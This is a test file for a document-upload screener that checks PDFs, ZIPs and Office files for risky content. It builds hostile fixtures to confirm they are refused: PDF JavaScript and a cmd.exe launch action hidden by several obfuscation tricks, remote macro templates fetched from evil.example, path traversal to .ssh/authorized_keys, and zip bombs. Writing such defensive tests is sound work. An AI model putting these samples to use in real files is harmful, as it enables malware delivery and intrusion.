import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { zipOf } from '../local/test-zip.ts';
import { documentFault } from './document-faults.ts';

const bytes = (text: string | Buffer) => new Uint8Array(Buffer.from(text as string, 'latin1'));
const fault = (file: string | Buffer, extension: string) => documentFault(bytes(file), { extension });

/** A PDF with this object, and a page whose content only looks like actions. */
const pdf = (object: string) =>
  `%PDF-1.7\n1 0 obj\n<< /Length 40 >>\nstream\n/JS /Launch /JavaScript /ObjStm in a picture\nendstream\nendobj\n${object}\ntrailer\n<< /Root 2 0 R >>\n%%EOF\n`;
/** The same with the objects packed into a stream. */
const packed = (objects: string, filter = '/Filter /FlateDecode') => {
  const content = filter ? deflateSync(Buffer.from(objects)).toString('latin1') : objects;
  return pdf(
    `3 0 obj\n<< /Type /ObjStm ${filter} /N 1 /Length ${content.length} >>\nstream\r\n${content}\nendstream\nendobj`,
  );
};

/** A stream that programs take for one of objects, whatever type it has. */
const counted = ([objects = '']: string[], filter = '/Filter /FlateDecode', type = '') =>
  pdf(
    `3 0 obj\n<< ${type} /N 1 /First 4 ${filter} >>\nstream\n${deflateSync(Buffer.from(objects)).toString('latin1')}\nendstream\nendobj`,
  );

/** Objects that are packed in two blocks, the first of them readable. */
const split = (() => {
  const objects = ['3 0 (endstream)', '<< /S /JavaScript /JS (app.alert(1)) >>'];
  const whole = deflateSync(Buffer.from(objects.join('')));
  const readable = deflateRawSync(Buffer.from(objects[0] ?? ''), { level: 0, finishFlush: constants.Z_SYNC_FLUSH });
  const rest = deflateRawSync(Buffer.from(objects[1] ?? ''));
  return Buffer.concat([whole.subarray(0, 2), readable, rest, whole.subarray(-4)]).toString('latin1');
})();

describe('a PDF', () => {
  test('with text, links and forms is taken', async () => {
    expect(await fault(pdf('2 0 obj\n<< /Type /Catalog /OpenAction [4 0 R /Fit] >>\nendobj'), 'pdf')).toBeNull();
    expect(await fault(packed('<< /S /URI /URI (https://launchpad.test/JS) >>'), 'pdf')).toBeNull();
    // Lists that could name attachments and have none, and a form that is not XFA.
    const empty = '<< /Names << /EmbeddedFiles << /Names [] >> >> /AcroForm << /Fields [4 0 R] /XFA null >> >>';
    expect(await fault(packed(empty), 'pdf')).toBeNull();
    expect(await fault('%PDF-1.7\n', 'pdf')).toBeNull();
  });

  test.each([
    ['a script', pdf('2 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj')],
    ['a script under an escaped name', pdf('2 0 obj\n<< /S /J#61vaScript /J#53 4 0 R >>\nendobj')],
    ['a script in a packed object', packed('<< /S/JavaScript/JS(app.alert(1)) >>')],
    ['a script in an object stream that is not packed', packed('<< /S /JavaScript >>', '')],
    ['a script behind a comment', pdf('%stream\n2 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n%endstream')],
    [
      'a script behind a string',
      pdf('2 0 obj\n(stream\n)\nendobj\n3 0 obj\n<< /JS (app.alert(1)) /S 4 0 R >>\nendobj'),
    ],
    [
      'a script that a table of positions finds',
      pdf('2 0 obj\n<<>>\nstream\n3 0 obj\n<< /S /JavaScript >>\nendstream'),
    ],
    ['a script in objects that are not named so', pdf(`2 0 obj\n<< /N 1 >>\nstream\n${split}\nendstream`)],
    [
      'a script behind the word that ends objects',
      pdf(`2 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n${split}\nendstream`),
    ],
    [
      'a script whose kind is another object',
      `%PDF-1.7\n2 0 obj\n<< /S 9 0 R >>\nendobj\n9 0 obj %a\n/JavaScript\nendobj`,
    ],
    ['a program whose kind is another object', `%PDF-1.7\n2 0 obj\n<< /S 9%a\n0 R >>\nendobj\n9 0 obj/Launch endobj`],
    ['a script whose kind is in packed objects', packed('9 0 8 12 /JavaScript << /S 9 0 R >>')],
    ['a script behind a comment with an escaped end of line', pdf('2 0 obj\n<< /S %#0a/URI \n/JavaScript >>\nendobj')],
    ['a script in other letters', pdf('2 0 obj\n<< /JS (\xe4=app;\xe4.alert(1)) >>\nendobj')],
    ['a script in a drawing', pdf('2 0 obj\n<< /OnInstantiate 5 0 R >>\nendobj')],
    ['a script in objects that begin with a sign', counted(['+3 +0 << /S /JavaScript >>'])],
    ['the start of a program', pdf('2 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj')],
  ])('with %s is refused', async (_what, file) => {
    expect(await fault(file, 'pdf')).toMatch(/^This PDF contains a script or starts a program/);
  });

  test.each([
    [
      'an attachment',
      pdf('2 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>\nendobj'),
      /has other files in/,
    ],
    ['an attachment in a packed object', packed('<< /Type/Filespec/F(a.exe)/EF 5 0 R >>'), /has other files in/],
    ['an XFA form', pdf('2 0 obj\n<< /AcroForm << /XFA [(template) 4 0 R] >> >>\nendobj'), /is an XFA form/],
    ['an XFA form in one part', packed('<< /Fields [] /X#46A 4 0 R >>'), /is an XFA form/],
    ['a page elsewhere', pdf('2 0 obj\n<< /S /GoToE /F (\\\\10.0.0.1\\a) >>\nendobj'), /opens other files/],
    ['a page in another file', packed('<< /S/GoToR/F(//10.0.0.1/a)/D[0/Fit] >>'), /opens other files/],
    ['a thread of another file', packed('<< /S/Thread/F(//10.0.0.1/a)/D 0 >>'), /opens other files/],
    ['a form that is sent', packed('<< /S /SubmitForm /F (https://launchpad.example) >>'), /opens other files/],
    ['a script and an attachment', packed('<< /EF << /F 5 0 R >> /S /JavaScript >>'), /^This PDF contains a script/],
  ])('with %s is refused', async (_what, file, sentence) => {
    expect(await fault(file, 'pdf')).toMatch(sentence);
  });

  test('that cannot be looked into is refused, and the work is bounded', async () => {
    expect(await fault(pdf('2 0 obj\n<< /Encrypt 9 0 R >>\nendobj'), 'pdf')).toMatch(/is protected/);
    expect(await fault(packed('<< >>', '/Filter /LZWDecode'), 'pdf')).toMatch(/cannot be read/);
    const scrambled = '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>';
    expect(await fault(packed('<< >>', scrambled), 'pdf')).toMatch(/cannot be read/);
    for (const lines of ['/S%', '%/S%/S\n', '/EF%/XFA%', '%/EF%/S\n']) {
      await fault(pdf(lines.repeat(100_000)), 'pdf');
    }
    // A picture may begin as packed data do, by chance. Many do not.
    expect(await fault(pdf('stream\nx\x9c'.repeat(10)), 'pdf')).toBeNull();
    expect(await fault(pdf('stream\nx\x9c'.repeat(1000)), 'pdf')).toMatch(/cannot be read/);
    // 64 MB of spaces in 64 KB.
    expect(await fault(packed(' '.repeat(64 * 1024 * 1024)), 'pdf')).toMatch(/cannot be read/);
  });

  test('with objects that are packed in a way that is not read is refused, whatever their stream is called', async () => {
    for (const filter of [
      '/Filter [/ASCIIHexDecode /FlateDecode]',
      '/Filter [/FlateDecode /ASCIIHexDecode]',
      '/Filter 9 0 R',
      '/F#69lter /LZWDecode',
      '/F /Fl',
      '/X (/Filter /FlateDecode) /Filter /LZWDecode',
      '/X (stream\nendstream) /Filter /LZWDecode',
      '/X (\\)obj<<>>) /Filter /LZWDecode %>>\n',
      '/Filter /FlateDecode /DecodeParms 9 0 R',
    ]) {
      expect(await fault(counted(['3 0 << >>'], filter), 'pdf')).toMatch(/cannot be read/);
      expect(await fault(counted(['3 0 << >>'], filter, '/Type 8 0 R'), 'pdf')).toMatch(/cannot be read/);
    }
    expect(await fault(counted(['3 0 << >>']), 'pdf')).toBeNull();
    // Each of these words could begin an object, and each object could have all of the rest.
    for (const unit of ['obj<<', 'obj%', 'obj(', 'obj <<(', 'obj<<<a']) {
      await fault(pdf(unit.repeat(200_000)), 'pdf');
    }
  });

  test('of usual programs is taken: with a font whose letters are objects, bookmarks, pictures, signatures', async () => {
    const font = '4 0 obj\n<< /Type /Font /Subtype /Type3 /CharProcs << /R 11 0 R /S 12 0 R >> >>\nendobj';
    const transition = '5 0 obj\n<< /Trans << /S /Dissolve >> /Group << /S /Transparency >> /S /P >>\nendobj';
    const bookmarks =
      '6 0 obj\n<< /First 7 0 R /Last 7 0 R /Count 1 >>\nendobj\n7 0 obj\n<< /AP << /N 8 0 R >> >>\nendobj';
    const picture =
      '8 0 obj\n<< /Subtype /Image /Filter [/ASCII85Decode /DCTDecode] >>\nstream\n5sdq,77Kd<8P2WL~>\nendstream\nendobj';
    const signature = '9 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached >>\nendobj';
    const objects = counted(['10 0 << /Type /Catalog >>'], '/Filter/FlateDecode', '/Type /ObjStm').slice(
      '%PDF-1.7'.length,
    );
    const parts = [
      '%PDF-1.7',
      font,
      transition,
      bookmarks,
      picture,
      signature,
      objects.replace(/1 0 obj[\s\S]*?endobj/, ''),
    ];
    expect(await fault(parts.join('\n'), 'pdf')).toBeNull();
  });

  test('that names scripts in its texts and links is taken, also one for the web and one with a share in percent', async () => {
    const link = '4 0 obj\n<< /A << /S /URI /URI (https://launchpad.example/Web/JavaScript) >> >>\nendobj';
    // The length of a table of hints, which a PDF for the web begins with.
    const hints = '5 0 obj\n<< /S 36 /Length 40 >>\nendobj';
    const text = '6 0 obj\n<< /Length 44 >>\nstream\nBT (TypeScript/JavaScript 90%) Tj ET\nendstream\nendobj';
    expect(await fault(['%PDF-1.7', link, hints, text].join('\n'), 'pdf')).toBeNull();
  });

  test('with packed objects that make far more work than a document of its size is refused', async () => {
    // 24 MB in as many KB. What is read of them costs most where it is all codes of characters.
    expect(await fault(packed('#41'.repeat(2_000_000)).repeat(4), 'pdf')).toMatch(/cannot be read/);
    expect(await fault(pdf('/S'.repeat(1_100_000)), 'pdf')).toMatch(/cannot be read/);
    const endless = `2 0 obj\n<< /Filter${' '.repeat(2_000_000)}/ObjStm >>\nstream\nx\nendstream`;
    expect(await fault(pdf(endless), 'pdf')).toMatch(/cannot be read/);
  });

  test('lets other requests continue between its pieces', async () => {
    let turns = 0;
    const other = setInterval(() => {
      turns += 1;
    }, 0);
    expect(await fault(packed(' '.repeat(1024 * 1024)).repeat(10), 'pdf')).toBeNull();
    clearInterval(other);
    expect(turns).toBeGreaterThanOrEqual(5);
  });

  test('with a script in packed objects behind a megabyte of spaces is refused', async () => {
    const content = deflateSync(Buffer.from(`${' '.repeat(1024 * 1024)}3 0 << /S /JavaScript >>`)).toString('latin1');
    const file = pdf(`2 0 obj\n<< /N 1 >>\nstream\n${content}\nendstream`);
    expect(await fault(file, 'pdf')).toMatch(/contains a script/);
  });
});

/** With `by` added to the bytes at these places, counted from the end. */
function changed(zip: Buffer, place: number, by: number, also = place): Buffer {
  for (const at of new Set([place, also])) zip.writeUInt8((zip.at(at) ?? 0) + by, zip.length + at);
  return zip;
}

/** With the record that names the place of another directory, in the comment of the last file. */
function withZip64(zip: Buffer): Buffer {
  const record = Buffer.from('PK\x06\x07'.padEnd(20, '\0'));
  zip.writeUInt16LE(record.length, zip.lastIndexOf('PK\x01\x02') + 32);
  zip.writeUInt32LE(zip.readUInt32LE(zip.length - 10) + record.length, zip.length - 10);
  return Buffer.concat([zip.subarray(0, -22), record, zip.subarray(-22)]);
}

describe('a ZIP or an Office document', () => {
  const parts = { '[Content_Types].xml': '<Types/>', 'word/document.xml': 'Hello' };

  test('with usual parts is taken', async () => {
    expect(await fault(zipOf(parts), 'docx')).toBeNull();
    expect(await fault(zipOf({ 'a/b..c.txt': 'x', 'Übung.txt': 'y' }), 'zip')).toBeNull();
  });

  test.each([
    ['word/vbaProject.bin', 'docx'],
    ['xl/macrosheets/sheet1.xml', 'xlsx'],
    ['ppt/activeX/activeX1.bin', 'pptx'],
  ])('with %s is refused', async (name, extension) => {
    expect(await fault(zipOf({ ...parts, [name]: 'x' }), extension)).toMatch(/contains macros/);
  });

  const typeOf = (kind: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}`;
  const relationships = (kind: string, target: string, before = '') =>
    `<Relationships><Relationship ${before} Id="r" Type="${typeOf(kind)}" Target="${target}" TargetMode="External"/></Relationships>`;
  const withRelationships = (content: string | Buffer) => zipOf({ ...parts, 'word/_rels/settings.xml.rels': content });
  const linked = (kind: string, target: string) => withRelationships(relationships(kind, target));

  test.each([
    ['attachedTemplate', 'https://evil.example/macros.dotm'],
    ['attachedTemplate', 'file:///\\\\evil.example\\macros.dotm'],
    ['attachedTemplate', '&#x68;ttp://evil.example/macros.dotm'],
    ['oleObject', 'mhtml:https://evil.example/page.html!x-usc:https://evil.example/page.html'],
    ['image', '\\\\evil.example\\share\\x.png'],
    ['mailMergeSource', 'https://evil.example/people.csv'],
  ])('with a %s that is loaded from %s is refused', async (kind, target) => {
    expect(await fault(linked(kind, target), 'docx')).toMatch(/loads a part of itself from another computer/);
  });

  const remoteTemplate = ['attachedTemplate', 'https://evil.example/macros.dotm'] as const;
  test.each([
    ['behind a sign that ends tags', relationships(...remoteTemplate, 'xmlns:x=">"')],
    ['behind a value like an attribute', relationships(...remoteTemplate, `xmlns:x=' Type="${typeOf('hyperlink')}"'`)],
    ['in UTF-16 without its mark', Buffer.from(relationships(...remoteTemplate), 'utf16le')],
    ['in UTF-16 the other way around', Buffer.from(relationships(...remoteTemplate), 'utf16le').swap16()],
  ])('with a template from another computer %s is refused', async (_where, content) => {
    expect(await fault(withRelationships(content), 'docx')).toMatch(/loads a part of itself from another computer/);
  });

  test('with entities in its relationships is refused', async () => {
    const entity = '<!DOCTYPE Relationships [<!ENTITY kind "attachedTemplate">]>';
    const content = entity + relationships('&kind;', 'https://evil.example/macros.dotm');
    expect(await fault(withRelationships(content), 'docx')).toMatch(/cannot be read/);
  });

  test.each([
    ['a word', 'x'.repeat(1_900_000)],
    ['spaces', ' '.repeat(1_900_000)],
    ['quotation marks', `"'`.repeat(900_000)],
    ['words', 'x '.repeat(900_000)],
  ])('with a relationship that is full of %s is looked into in a moment', async (_what, before) => {
    const content = relationships('hyperlink', 'https://example.org/', before);
    expect(await fault(withRelationships(content), 'docx')).toBeNull();
  });

  test('with a tag that never ends is looked into in a moment', async () => {
    const rels = `<Relationships><Relationship ${'TargetMode '.repeat(180_000)}`;
    expect(await fault(zipOf({ ...parts, 'word/_rels/settings.xml.rels': rels }), 'docx')).toBeNull();
  });

  test('with more relationships than a document needs, over all of its parts, is refused', async () => {
    const rels = '<Relationship TargetMode="External"/>'.repeat(40_000);
    const many = Object.fromEntries([1, 2].map((part) => [`word/_rels/${part}.xml.rels`, rels]));
    expect(await fault(zipOf({ ...parts, ...many }), 'docx')).toMatch(/cannot be read/);
  });

  test('with links to pages, and the template on the writer’s own computer, is taken', async () => {
    expect(await fault(linked('hyperlink', 'https://example.org/'), 'docx')).toBeNull();
    expect(await fault(linked('attachedTemplate', 'file:///C:\\Users\\Ada\\Resume.dotx'), 'docx')).toBeNull();
  });

  test.each([
    ['one that hides its sizes', zipOf({ 'zeros.bin': 'x'.repeat(1000) }, { unpacked: 10 }), /cannot be read/],
    ['a bomb', zipOf({ 'zeros.bin': 'x'.repeat(1000) }, { unpacked: 400 * 1024 * 1024 }), /too large/],
    ['a huge one', zipOf({ 'a.bin': 'x'.repeat(4 * 1024 * 1024) }, { unpacked: 600 * 1024 * 1024 }), /too large/],
    ['one with a password', zipOf(parts, { isEncrypted: true }), /has a password/],
    ['one that leads out of its folder', zipOf({ '../../.ssh/authorized_keys': 'x' }), /lead out of its folder/],
    [
      'one whose entries share one packed file',
      zipOf({ 'a.txt': 'x', 'b.txt': 'x' }, { isShared: true }),
      /cannot be read/,
    ],
    ['one with a second directory (ZIP64)', withZip64(zipOf(parts)), /cannot be read/],
    ['one whose directory is elsewhere by its length', changed(zipOf(parts), -10, 1), /cannot be read/],
    ['one of several disks', changed(zipOf(parts), -18, 1), /cannot be read/],
    ['one with fewer files than its directory has', changed(zipOf(parts), -12, -1, -14), /cannot be read/],
    ['one without a directory', zipOf(parts).subarray(0, -10), /cannot be read/],
    ['one with something behind it', Buffer.concat([zipOf(parts), Buffer.from('more')]), /cannot be read/],
  ])('%s is refused', async (_what, file, message) => {
    expect(await fault(file, 'zip')).toMatch(message);
  });
});
